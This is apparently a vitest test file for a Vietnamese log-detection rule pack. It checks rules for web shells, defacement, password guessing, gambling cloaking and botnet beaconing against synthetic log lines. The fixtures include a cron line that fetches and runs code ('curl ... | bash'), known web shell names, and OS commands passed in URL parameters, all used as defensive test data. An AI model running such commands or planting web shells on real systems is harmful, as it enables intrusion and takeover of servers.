import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadRules } from '../../../engine/rule/load-rules.ts';
import { hunt } from '../../../engine/run/hunt.ts';
import { listRuleFiles, readRuleFiles } from '../../../engine/run/rule-files.ts';
import { ownPack } from './hunt-options.ts';
import { readRuleNotes } from './rule-notes.ts';

const folder = mkdtempSync(join(tmpdir(), 'khien-pack-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The titles of what the pack finds in some lines. */
async function find(...lines: string[]): Promise<string[]> {
  const path = join(folder, 'log');
  writeFileSync(path, `${lines.join('\n')}\n`);
  const titles: string[] = [];
  await hunt(
    { paths: [path], rules: [ownPack], workers: 1 },
    { onFinding: ({ rule }) => titles.push(rule.title) },
  );
  return titles;
}

const request = (line: string, rest = '', second = 0): string =>
  `203.0.113.9 - - [01/Aug/2026:03:0${Math.floor(second / 60)}:${String(second % 60).padStart(2, '0')} +0700] "${line} HTTP/1.1" ${rest || '200 5 "-" "Mozilla/5.0"'}`;
const calm = request('GET /tin-tuc/hoi-nghi');

const vietnamese = /[àáâãèéêìíòóôõùúăđĩũơưạ-ỹ]/;

describe('the own rule pack', () => {
  it('loads without a problem, and every rule tells in both languages what it means and when it errs', () => {
    const set = loadRules(readRuleFiles(listRuleFiles([ownPack])));
    expect(set.problems).toEqual([]);
    const rules = [...set.detections, ...set.correlations];
    const ids = new Set(rules.map(({ id }) => id));
    expect(ids.size).toBe(rules.length);
    const notes = readRuleNotes([ownPack], ids);
    for (const { id, level, tags } of rules) {
      const { title, description, falsePositives } = notes.get(id)!;
      for (const text of [title, description]) {
        expect(text.vi, id).toMatch(vietnamese);
        expect(text.en, id).not.toMatch(vietnamese);
      }
      if (level === 'informational') continue;
      expect(falsePositives.vi, id).toMatch(vietnamese);
      expect(falsePositives.en, id).not.toMatch(vietnamese);
      expect(
        tags.some((tag) => /^attack\.t\d{4}/.test(tag)),
        id,
      ).toBe(true);
    }
  });

  it('finds gambling pages and their cloaking, and leaves other pages alone', async () => {
    expect(await find(calm, request('GET /casino-truc-tuyen'))).toEqual([
      'Trang cờ bạc, cá độ nằm trong cổng của cơ quan',
    ]);
    expect(await find(request('GET /x?p=tai-xiu-online', '200 5 "-" "Googlebot/2.1"'))).toHaveLength(2);
    expect(await find(request('GET /soi-keo', '302 5 "https://www.google.com/" "M"'))).toEqual([
      'Nội dung cờ bạc chỉ hiện với máy tìm kiếm (cloaking)',
    ]);
    expect(await find(request('GET /soi-keo', '404 5 "-" "M"'), calm)).toEqual([]);
  });

  it('finds web shells by their place and by their commands', async () => {
    expect(await find(request('GET /Portals/0/uploads/a.aspx'), calm)).toEqual([
      'Chạy mã kịch bản trong thư mục tải lên',
    ]);
    expect(await find(request('GET /uploads/a.pdf'), request('GET /uploads/a.php', '403 5 "-" "M"'))).toEqual(
      [],
    );
    expect(await find(request('GET /a.php?x=1&cmd=net+user'))).toEqual([
      'Lệnh hệ điều hành trong tham số của trang web',
    ]);
    expect(await find(request('GET /a.php?category=netherlands&c=idea'))).toEqual([]);
    expect(await find(request('GET /a.php?category=whoami'))).toEqual([]);
  });

  it('finds overwritten pages', async () => {
    expect(await find(request('PUT /index.html', '201 0 "-" "M"'))).toEqual([
      'Ghi đè trang bằng phương thức PUT hoặc MOVE',
    ]);
    expect(await find(request('PUT /index.html', '405 0 "-" "M"'), request('PUT /api/1'))).toEqual([]);
  });

  it('counts sign-ins on web mail and portals per address', async () => {
    const many = (line: string, count: number) =>
      Array.from({ length: count }, (_, i) => request(line, '', i * 2));
    expect(await find(...many('POST /owa/auth.owa', 31))).toEqual([
      'Dò mật khẩu thư điện tử công vụ qua web',
    ]);
    expect(await find(...many('POST /owa/auth.owa', 30))).toEqual([]);
    expect(await find(...many('POST /wp-login.php', 51))).toEqual([
      'Dò mật khẩu trang quản trị cổng thông tin',
    ]);
  });

  it('finds scheduled commands that fetch and run', async () => {
    const cron = (command: string) => `Aug  1 03:04:05 web CRON[12]: (root) CMD (${command})`;
    expect(await find(cron('curl -s http://203.0.113.5/x | bash'))).toEqual([
      'Tác vụ định kỳ tải mã từ mạng và chạy ngay',
    ]);
    expect(await find(cron('/usr/bin/backup | gzip'), cron('curl -s https://a.gov.vn/health'))).toEqual([]);
  });

  it('finds web shells by their names, disguises and arrival', async () => {
    expect(await find(request('GET /tin/c99.php'), request('GET /c99.php', '404 5 "-" "M"'))).toEqual([
      'Gọi tệp mang tên webshell phổ biến',
    ]);
    expect(await find(request('GET /media/a.php.jpg'), request('GET /media/a.jpg/x.php'))).toHaveLength(2);
    expect(await find(request('GET /media/bao-cao.2026.jpg'), request('GET /php.jpg'))).toEqual([]);
    const send = request('POST /admin/filemanager/connector?x=1', '200 5 "-" "M"', 1);
    const call = request('GET /uploads/anh.aspx', '', 100);
    expect(await find(send, call)).toContain('Tải tệp lên rồi gọi ngay kịch bản trong thư mục tải lên');
    expect(await find(send.replace('203.0.113.9', '203.0.113.8'), call)).toEqual([
      'Chạy mã kịch bản trong thư mục tải lên',
    ]);
    expect(await find(send, request('GET /uploads/anh.jpg', '', 100))).toEqual([]);
  });

  it('finds published defacements, forged mail paths and probing', async () => {
    expect(await find(request('GET /', '200 5 "https://www.zone-h.org/mirror/1" "M"'), calm)).toEqual([
      'Người truy cập đến từ trang công bố website bị tấn công',
    ]);
    expect(await find(request('GET /hacked.html', '404 5 "-" "M"'))).toEqual([]);
    expect(
      await find(request('POST /autodiscover/autodiscover.json?@x.vn/powershell/', '302 5 "-" "M"')),
    ).toEqual(['Địa chỉ autodiscover mang đường dẫn nội bộ của máy chủ thư']);
    expect(await find(request('POST /autodiscover/autodiscover.json?Email=a%40x.gov.vn'))).toEqual([]);
    const probes = (count: number) =>
      Array.from({ length: count }, (_, i) => request(`GET /a${i}.php`, '404 5 "-" "M"', i));
    expect(await find(...probes(201))).toEqual(['Dò tìm nhiều địa chỉ không tồn tại']);
    expect(await find(...probes(200))).toEqual([]);
  });

  const sysmon = (eventId: number, second: number, fields: object): string => {
    const time = new Date(Date.UTC(2026, 7, 1) + second * 1000).toISOString();
    const system = { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: eventId, Computer: 'PC-01' };
    return JSON.stringify({
      Event: {
        System: { ...system, TimeCreated: { '#attributes': { SystemTime: time } } },
        EventData: fields,
      },
    });
  };

  it('finds what a web shell does on the machine', async () => {
    const start = (parent: string, image: string) =>
      sysmon(1, 1, {
        ParentImage: `C:\\x\\${parent}`,
        Image: `C:\\Windows\\System32\\${image}`,
        CommandLine: image,
      });
    expect(await find(start('w3wp.exe', 'cmd.exe'))).toEqual(['Máy chủ web chạy trình lệnh']);
    expect(await find(start('explorer.exe', 'cmd.exe'), start('w3wp.exe', 'conhost.exe'))).toEqual([]);
    const write = (file: string) =>
      sysmon(11, 1, { Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', TargetFilename: file });
    expect(await find(write('C:\\inetpub\\cong\\upload\\a.aspx'))).toEqual([
      'Máy chủ web ghi tệp kịch bản mới',
    ]);
    expect(
      await find(
        write('C:\\Windows\\Microsoft.NET\\Temporary ASP.NET Files\\a.aspx'),
        write('C:\\inetpub\\cong\\upload\\a.pdf'),
      ),
    ).toEqual([]);
  });

  it('finds the even pace of a botnet, not people and not private addresses', async () => {
    const image = 'C:\\Users\\an\\AppData\\Roaming\\up.exe';
    const calls = (pace: (i: number) => number, address: string, from = image) =>
      Array.from({ length: 14 }, (_, i) =>
        sysmon(3, pace(i), { Initiated: 'true', Image: from, DestinationIp: address }),
      );
    const even = (i: number) => i * 300 + (i % 3);
    expect(await find(...calls(even, '203.0.113.50'))).toEqual([
      'Chương trình trong thư mục người dùng gọi ra ngoài đều nhịp',
    ]);
    expect(await find(...calls((i) => i * i * 40, '203.0.113.50'))).toEqual([]);
    expect(await find(...calls(even, '10.1.2.3'))).toEqual([]);
    expect(await find(...calls(even, '203.0.113.50', 'C:\\Program Files\\Agent\\agent.exe'))).toEqual([]);
    const asks = Array.from({ length: 14 }, (_, i) =>
      sysmon(22, even(i), { Image: image, QueryName: 'a.example' }),
    );
    expect(await find(...asks)).toEqual(['Chương trình trong thư mục người dùng hỏi một tên miền đều nhịp']);
  });

  it('counts and groups in the logs of sensors as well, where fields have other names', async () => {
    const zeek = (second: number, method: string, host: string, uri: string) =>
      JSON.stringify({
        ...{
          _path: 'http',
          ts: 1_785_600_000 + second,
          'id.orig_h': '10.0.0.5',
          'id.resp_h': '203.0.113.77',
        },
        ...{ method, host, uri, status_code: 200 },
      });
    const beats = Array.from({ length: 14 }, (_, i) => zeek(i * 300, 'POST', '203.0.113.77', '/gate'));
    expect(await find(...beats)).toEqual(['Gửi dữ liệu đều nhịp tới một địa chỉ IP qua máy chủ trung gian']);
    expect(
      await find(...beats.map((line) => line.replace('"host":"203.0.113.77"', '"host":"a.vn"'))),
    ).toEqual([]);
    const guesses = Array.from({ length: 31 }, (_, i) => zeek(i, 'POST', 'mail.vn', '/owa/auth.owa'));
    expect(await find(...guesses)).toEqual(['Dò mật khẩu thư điện tử công vụ qua web']);
  });
});
